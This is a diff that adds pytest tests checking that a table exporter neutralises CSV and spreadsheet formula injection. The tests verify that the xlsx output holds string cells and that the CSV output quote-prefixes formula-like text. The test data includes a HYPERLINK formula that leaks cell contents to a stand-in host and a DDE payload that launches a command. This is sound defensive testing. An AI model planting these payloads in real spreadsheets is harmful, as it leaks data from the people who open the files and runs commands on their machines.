@@ -65,3 +65,94 @@ class TestSaveTables:
         paths = cnb.save_tables({"first": table, "second": table}, tmp_path / "out")
         assert [p.name for p in paths] == ["first.csv", "second.csv"]
         assert pd.read_csv(paths[1])["count"].tolist() == [3, 2, 1]
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=1+1", "+1", "-1",
+            "@SUM(A1:A2)", "=cmd|' /C calc'!A0"]
+
+
+class TestNoFormulas:
+    """OWASP's CSV injection guidance: no text is ever read back as a formula."""
+
+    def _sheet_cells(self, path, sheet=None):
+        book = openpyxl.load_workbook(path)
+        return [(c.value, c.data_type) for row in (book[sheet] if sheet else book.active)
+                for c in row]
+
+    def test_xlsx_text_is_a_string_cell(self, tmp_path):
+        table = pd.DataFrame({"title": FORMULAS, "n": [1, 2, 3, -1, 5, 6]})
+        cells = self._sheet_cells(cnb.save_table(table, tmp_path / "t.xlsx"))
+        assert cells[0::2] == [("title", "s")] + [(f, "s") for f in FORMULAS]
+        assert cells[1::2] == [("n", "s"), (1, "n"), (2, "n"), (3, "n"), (-1, "n"), (5, "n"),
+                               (6, "n")]
+
+    def test_xlsx_holds_no_formula_element(self, tmp_path):
+        import zipfile
+
+        table = pd.DataFrame({"=1+1": ["=2+2"]}, index=pd.Index(["=3+3"], name="=doc"))
+        path = cnb.save_table(table, tmp_path / "t.xlsx")
+        xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in xml and "<f " not in xml
+        assert self._sheet_cells(path) == [("=doc", "s"), ("=1+1", "s"), ("=3+3", "s"),
+                                           ("=2+2", "s")]
+
+    def test_workbook_of_several_tables(self, tmp_path):
+        tables = {"documents": pd.DataFrame({"title": ["=1+1", "A speech"]}),
+                  "terms": pd.DataFrame({"term": ["@SUM(A1)"], "count": [2]})}
+        (path,) = cnb.save_tables(tables, tmp_path / "tables.xlsx")
+        assert self._sheet_cells(path, "documents") == [("title", "s"), ("=1+1", "s"),
+                                                        ("A speech", "s")]
+        assert self._sheet_cells(path, "terms") == [("term", "s"), ("count", "s"),
+                                                    ("@SUM(A1)", "s"), (2, "n")]
+
+    def test_csv_text_cells_get_a_quote(self, tmp_path):
+        import csv
+
+        table = pd.DataFrame({
+            "title": FORMULAS + ["\tTab", "\rReturn", "a=b", "-1.5", "ok"],
+            "change": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, -10.0, 11.0],
+            "mixed": [-2, "-2", "@x", None, "", " =x", "+", "=", "1-1", 0, "x"],
+        })
+        path = cnb.save_table(table, tmp_path / "t.csv")
+        with open(path, encoding="utf-8", newline="") as handle:
+            rows = list(csv.reader(handle))
+        assert rows == [
+            ["title", "change", "mixed"],
+            ["'" + FORMULAS[0], "-1.5", "-2"],
+            ["'=1+1", "2.0", "'-2"],
+            ["'+1", "-3.0", "'@x"],
+            ["'-1", "4.0", ""],
+            ["'@SUM(A1:A2)", "5.0", ""],
+            ["'=cmd|' /C calc'!A0", "6.0", " =x"],
+            ["'\tTab", "7.0", "'+"],
+            ["'\rReturn", "8.0", "'="],
+            ["a=b", "9.0", "1-1"],
+            ["'-1.5", "-10.0", "0"],  # -1.5 held as text is text; numbers stay numbers
+            ["ok", "11.0", "x"],
+        ]
+
+    def test_csv_column_names_and_index_labels(self, tmp_path):
+        table = pd.DataFrame({"=sum": [1], "count": [-2]},
+                             index=pd.Index(["+doc"], name="@id"))
+        path = cnb.save_table(table, tmp_path / "t.csv")
+        assert path.read_text("utf-8").splitlines() == ["'@id,'=sum,count", "'+doc,1,-2"]
+
+    def test_csv_of_a_categorical_column(self, tmp_path):
+        table = pd.DataFrame({"term": pd.Categorical(["=a", "b", "=a"])})
+        path = cnb.save_table(table, tmp_path / "t.csv")
+        assert path.read_text("utf-8").splitlines() == ["term", "'=a", "b", "'=a"]
+
+    def test_the_table_is_not_changed(self, tmp_path):
+        table = pd.DataFrame({"title": ["=1+1"]})
+        cnb.save_table(table, tmp_path / "t.csv")
+        assert table["title"].tolist() == ["=1+1"]
+
+    def test_csv_line_break_inside_a_text_stays_in_its_cell(self, tmp_path):
+        import csv
+
+        table = pd.DataFrame({"title": ["x\r=1+1", "y\n@z"], "n": [1, 2]})
+        path = cnb.save_table(table, tmp_path / "t.csv")
+        assert path.read_bytes() == b'title,n\r\n"x\r=1+1",1\r\n"y\n@z",2\r\n'
+        with open(path, encoding="utf-8", newline="") as handle:
+            assert list(csv.reader(handle)) == [["title", "n"], ["x\r=1+1", "1"],
+                                                ["y\n@z", "2"]]
